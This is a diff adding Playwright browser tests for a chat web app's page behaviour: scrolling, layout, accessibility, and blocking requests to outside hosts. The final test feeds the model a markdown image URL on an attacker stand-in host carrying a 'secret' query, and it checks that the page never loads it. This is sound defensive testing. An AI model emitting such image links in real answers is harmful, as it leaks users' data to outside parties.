@@ -1,0 +1,123 @@
+"""The page itself: it holds still, fits, is reached by keys, and asks nobody else."""
+
+from __future__ import annotations
+
+import pytest
+from playwright.sync_api import Browser, Request, expect
+
+from tests.e2e.chatting import NARROW, WIDE, Person, left_below, person, position
+from tests.endpoint import Model, Script
+from tests.installation import Installation
+from tests.waiting import until
+
+LONG = tuple(f"Paragraph {number} of many, with words.\n\n" for number in range(60))
+
+
+def test_the_end_is_followed_and_the_scroll_never_stolen(keeper: Person, model: Model) -> None:
+    page = keeper.page
+    model.script = Script(pieces=LONG, pause=0.02, gate_at=45)
+    keeper.ask_anew("Much")
+    expect(keeper.words).to_contain_text("Paragraph 44", timeout=15_000)
+    until(lambda: left_below(page) <= 1, 3, "the end to be in view")
+    page.locator("[data-scroller]").hover()
+    page.mouse.wheel(0, -600)
+    until(lambda: left_below(page) > 300, 3, "the reader to be above")
+    jump = page.get_by_role("button", name="Jump to the end")
+    expect(jump).to_be_visible()
+    before = position(page)
+    model.gate.set()
+    keeper.is_over()
+    assert position(page) == before
+    jump.click()
+    until(lambda: left_below(page) <= 1, 3, "the end")
+    expect(jump).to_be_hidden()
+
+
+def test_nothing_moves_when_the_answer_ends(keeper: Person, model: Model) -> None:
+    model.script = Script(pieces=("Almost", " done."), gate_at=2)
+    keeper.ask_anew("Still?")
+    expect(keeper.words).to_have_text("Almost done.")
+    expect(keeper.prompts.get_by_role("button", name="Edit this message")).to_be_visible()
+    before = (keeper.answers.bounding_box(), keeper.words.bounding_box())
+    model.gate.set()
+    keeper.is_over()
+    assert (keeper.answers.bounding_box(), keeper.words.bounding_box()) == before
+
+
+def test_earlier_messages_of_a_long_chat_stay_while_it_goes_on(
+    keeper: Person, model: Model
+) -> None:
+    model.script = Script(pieces=("Yes.",))
+    keeper.ask_anew("Number 0")
+    keeper.is_over()
+    chat = keeper.page.url.rsplit("/", 1)[-1]
+    with keeper.house.api() as api:
+        for number in range(1, 33):
+            api.post(f"/actions/chats/{chat}/messages", json={"prompt": f"Number {number}"})
+    keeper.page.reload()
+    expect(keeper.answers).to_have_count(30)
+    expect(keeper.page.get_by_role("link", name="Show 6 earlier messages")).to_be_visible()
+    keeper.ask("Number 33")
+    expect(keeper.answers).to_have_count(31)
+    keeper.is_over()
+    expect(keeper.answers).to_have_count(31)
+    keeper.page.get_by_role("link", name="Show 6 earlier messages").click()
+    expect(keeper.answers).to_have_count(34)
+
+
+NAMELESS = """() => [...document.querySelectorAll("a, button, input, select, textarea")]
+    .filter((one) => one.type !== "hidden" && one.checkVisibility() && one.ariaHidden !== "true")
+    .filter((one) => !(one.innerText?.trim() || one.getAttribute("aria-label")
+        || one.labels?.length || one.title))
+    .map((one) => one.outerHTML)"""
+FOCUSED = """() => {
+    const on = document.activeElement;
+    const ring = (one) => {
+        const style = getComputedStyle(one);
+        return style.outlineStyle !== "none" || style.boxShadow !== "none";
+    };
+    const shown = on === document.body || ring(on) || ring(on.closest(".composer-box") ?? on);
+    return `${shown} ${on.getAttribute("aria-label") || on.textContent.trim().slice(0, 40)}`;
+}"""
+
+
+@pytest.mark.parametrize("viewport", [WIDE, NARROW], ids=["wide", "narrow"])
+def test_pages_fit_and_every_control_has_a_name_and_is_reached(
+    browser: Browser, club: Installation, model: Model, viewport: dict[str, int]
+) -> None:
+    wide = "| a | b |\n|--|--|\n| " + "x" * 200 + " | " + "y" * 200 + " |\n\n"
+    model.script = Script(pieces=(wide, "```\n" + "z" * 400 + "\n```\n\n", "w" * 300))
+    with person(browser, club, model, viewport) as somebody:
+        page = somebody.page
+        somebody.ask_anew("q" * 200)
+        somebody.is_over()
+        for path in ("/chats", "/chats/new", "/chats?archived=1", page.url):
+            page.goto(path if "://" in path else club.url + path)
+            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
+            assert page.evaluate(NAMELESS) == [], path
+        reached = set()
+        for _ in range(60):
+            page.keyboard.press("Tab")
+            reached.add(page.evaluate(FOCUSED))
+        for name in ("Message", "Options of this chat", "Copy the answer", "Edit this message"):
+            assert f"true {name}" in reached
+        assert not [one for one in reached if one.startswith("false")]
+        if viewport == NARROW:
+            expect(page.locator("[data-list]")).to_be_hidden()
+            page.get_by_role("link", name="All chats").click()
+            expect(page.locator("[data-list]")).to_be_visible()
+            expect(page.locator("[data-conversation]")).to_be_hidden()
+
+
+def test_the_page_asks_nothing_of_anybody_else(keeper: Person, model: Model) -> None:
+    asked: list[str] = []
+
+    def note(request: Request) -> None:
+        if not request.url.startswith((keeper.house.url, "data:", "blob:")):
+            asked.append(request.url)
+
+    keeper.page.on("request", note)
+    model.script = Script(pieces=("![x](https://attacker.example/p.png?q=secret)",))
+    keeper.ask_anew("Picture?")
+    keeper.is_over()
+    assert asked == []
